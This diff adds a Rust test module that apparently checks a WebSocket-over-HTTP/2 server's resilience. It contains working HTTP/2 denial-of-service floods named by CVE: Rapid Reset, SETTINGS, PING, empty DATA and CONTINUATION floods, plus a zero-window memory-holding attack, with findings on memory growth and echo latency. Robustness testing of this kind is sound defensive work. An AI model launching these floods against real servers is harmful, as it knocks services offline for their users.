@@ -1,0 +1,243 @@
+//! Floods of HTTP/2 frames (RFC 9113), on a server that opens WebSockets over HTTP/2 (RFC 8441).
+
+use std::io::{ErrorKind, Read};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result};
+use ws_test_client::Peer;
+use ws_test_client::peer::{Stopped, is_timeout};
+use ws_test_client::wire::BINARY;
+use ws_test_client::wire::From::Client;
+
+use super::{Field, KIB, MIB, SLACK};
+use crate::finding::{Bytes, Finding, fresh_echo};
+
+/// The number of streams that are opened and reset.
+const RESETS: u32 = 100_000;
+
+/// The number of bytes of each flood.
+const FLOOD: u64 = 32 * MIB;
+
+/// The time without progress of TCP after which the server has stopped reading.
+const BLOCKED_AFTER: Duration = Duration::from_secs(2);
+
+/// The connections without a window, and the WebSockets in each of them.
+const CONNECTIONS: u32 = 10;
+const SOCKETS: u32 = 10;
+
+/// The number of bytes that each WebSocket without a window sends. All of a connection fit into the
+/// window of 1 MiB that hyper grants.
+const SENT: usize = 90 * 1024;
+
+/// The most bytes that the server holds for all WebSockets without a window: what it received, and
+/// what it queued.
+pub(super) const HELD: u64 = (CONNECTIONS * SOCKETS) as u64 * (SENT as u64 + 128 * KIB);
+
+/// The time limit for a peer that accepts nothing while bytes are queued for it.
+const WRITE_STALL: Duration = Duration::from_secs(30);
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const CONTINUATION: u8 = 9;
+
+const END_HEADERS: u8 = 0x4;
+
+const INITIAL_WINDOW_SIZE: u16 = 4;
+const CANCEL: u32 = 8;
+
+/// Opens streams and resets them at once (CVE-2023-44487).
+pub(super) fn rapid_reset(field: &Field) -> Result<Vec<Finding>> {
+    let mut peer = connect(field, &[])?;
+    let mut opened = 0;
+    let mut end = "open";
+    while opened < RESETS {
+        let ids = (opened..opened + 100).map(|at| 2 * at + 1);
+        let reset = |id| frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes());
+        let frames: Vec<u8> = ids
+            .flat_map(|id| [request(id), reset(id)].concat())
+            .collect();
+        if let Err(error) = peer.send(&frames) {
+            end = match is_timeout(&error) {
+                true => "not read any more",
+                false => "ended by the server",
+            };
+            break;
+        }
+        opened += 100;
+    }
+    Ok(vec![
+        Finding::note("streams reset", opened),
+        Finding::note("connection", end),
+        fresh_echo("echo meanwhile", &field.target),
+    ])
+}
+
+/// Sends SETTINGS, all of which must be acknowledged, and reads nothing (CVE-2019-9515).
+pub(super) fn settings(field: &Field) -> Result<Vec<Finding>> {
+    let peer = connect(field, &[])?;
+    flood(field, peer, &frame(SETTINGS, 0, 0, &[]))
+}
+
+/// Sends PINGs, all of which must be answered, and reads nothing (CVE-2019-9512).
+pub(super) fn pings(field: &Field) -> Result<Vec<Finding>> {
+    let peer = connect(field, &[])?;
+    flood(field, peer, &frame(PING, 0, 0, &[0; 8]))
+}
+
+/// Sends DATA without content to a WebSocket (CVE-2019-9518).
+pub(super) fn empty_data(field: &Field) -> Result<Vec<Finding>> {
+    let mut peer = connect(field, &[])?;
+    peer.send(&request(1))?;
+    flood(field, peer, &frame(DATA, 0, 1, &[]))
+}
+
+/// Sends a request whose header fields never end (CVE-2024-27316).
+pub(super) fn continuations(field: &Field) -> Result<Vec<Finding>> {
+    let mut peer = connect(field, &[])?;
+    peer.send(&frame(HEADERS, 0, 1, &fields()))?;
+    let more = literal("a", &"a".repeat(100)).repeat(10);
+    let flood = peer.flood(&frame(CONTINUATION, 0, 1, &more), FLOOD, BLOCKED_AFTER)?;
+    Ok(vec![
+        Finding::note("bytes taken", Bytes(flood.accepted)),
+        Finding::new(
+            "connection",
+            stopped(flood.stopped),
+            "ended by the server",
+            flood.stopped == Stopped::Ended,
+        ),
+        fresh_echo("echo meanwhile", &field.target),
+    ])
+}
+
+/// Sends messages to an echo and grants no window for the answers.
+pub(super) fn zero_windows(field: &Field) -> Result<Vec<Finding>> {
+    let message = Client.frame(BINARY, &[b'm'; 1000]);
+    let messages = message.repeat(SENT / message.len());
+    let mut peers = Vec::new();
+    let started = Instant::now();
+    for _ in 0..CONNECTIONS {
+        let mut peer = connect(field, &[(INITIAL_WINDOW_SIZE, 0)])?;
+        for id in (0..SOCKETS).map(|at| 2 * at + 1) {
+            peer.send(&request(id))?;
+            for piece in messages.chunks(16 * 1024) {
+                peer.send(&frame(DATA, 0, id, piece))?;
+            }
+        }
+        peers.push(peer);
+    }
+    let meanwhile = fresh_echo("echo meanwhile", &field.target);
+    let held = field.target.growth()?;
+    let mut given_up = 0;
+    for peer in &peers {
+        given_up += resets(peer, SOCKETS)?;
+    }
+    let took = started.elapsed();
+    let all = CONNECTIONS * SOCKETS;
+    Ok(vec![
+        Finding::bytes("growth meanwhile", held, HELD),
+        meanwhile,
+        Finding::count("WebSockets reset", given_up as usize, all as usize),
+        Finding::happened(
+            "all given up",
+            (given_up == all).then_some(took),
+            WRITE_STALL + 4 * SLACK,
+        ),
+    ])
+}
+
+/// Sends `unit` without end. The server may take all of it, stop reading, or end the connection.
+fn flood(field: &Field, mut peer: Peer, unit: &[u8]) -> Result<Vec<Finding>> {
+    let flood = peer.flood(unit, FLOOD, BLOCKED_AFTER)?;
+    Ok(vec![
+        Finding::note("bytes taken", Bytes(flood.accepted)),
+        Finding::note("connection", stopped(flood.stopped)),
+        fresh_echo("echo meanwhile", &field.target),
+    ])
+}
+
+fn stopped(stopped: Stopped) -> &'static str {
+    match stopped {
+        Stopped::Done => "open",
+        Stopped::Blocked => "not read any more",
+        Stopped::Ended => "ended by the server",
+    }
+}
+
+/// Starts HTTP/2 by prior knowledge, with these settings.
+fn connect(field: &Field, settings: &[(u16, u32)]) -> Result<Peer> {
+    let parameter = |&(id, value): &(u16, u32)| {
+        let id = id.to_be_bytes().into_iter();
+        id.chain(value.to_be_bytes()).collect::<Vec<_>>()
+    };
+    let settings: Vec<u8> = settings.iter().flat_map(parameter).collect();
+    let mut peer = Peer::connect(field.target.endpoint())?;
+    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
+    peer.send(&frame(SETTINGS, 0, 0, &settings))?;
+    Ok(peer)
+}
+
+/// Returns a frame (RFC 9113 §4.1).
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let [_, len @ ..] = (payload.len() as u32).to_be_bytes();
+    [&len, &[kind, flags][..], &stream.to_be_bytes(), payload].concat()
+}
+
+/// Returns the request for a WebSocket (RFC 8441 §5).
+fn request(stream: u32) -> Vec<u8> {
+    frame(HEADERS, END_HEADERS, stream, &fields())
+}
+
+fn fields() -> Vec<u8> {
+    let fields = [
+        (":method", "CONNECT"),
+        (":protocol", "websocket"),
+        (":scheme", "http"),
+        (":path", "/"),
+        (":authority", "localhost"),
+        ("sec-websocket-version", "13"),
+    ];
+    let literals = fields.iter().flat_map(|(name, value)| literal(name, value));
+    literals.collect()
+}
+
+/// Returns a header field of less than 127 bytes as a literal (RFC 7541 §6.2.2).
+fn literal(name: &str, value: &str) -> Vec<u8> {
+    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
+    [vec![0], text(name), text(value)].concat()
+}
+
+/// Reads frames until `count` streams were reset, or until the time limit of a write. Returns the
+/// number of those that were.
+fn resets(peer: &Peer, count: u32) -> Result<u32> {
+    let mut tcp = peer.tcp();
+    tcp.set_read_timeout(Some(WRITE_STALL + 4 * SLACK))?;
+    let mut found = 0;
+    while found < count {
+        let mut header = [0; 9];
+        match tcp.read_exact(&mut header) {
+            Err(error) if is_timeout(&error) || error.kind() == ErrorKind::UnexpectedEof => break,
+            read => read.context("the connection failed before the streams were reset")?,
+        }
+        let [high, middle, low, kind, ..] = header;
+        let len = u32::from_be_bytes([0, high, middle, low]);
+        tcp.read_exact(&mut vec![0; len as usize])?;
+        found += u32::from(kind == RST_STREAM);
+    }
+    Ok(found)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frames_begin_with_their_length() {
+        let ping = frame(PING, 1, 0, &[7; 8]);
+        assert_eq!(ping[..9], [0, 0, 8, PING, 1, 0, 0, 0, 0]);
+        assert_eq!(ping[9..], [7; 8]);
+        assert_eq!(literal("ab", "c"), *b"\0\x02ab\x01c");
+    }
+}
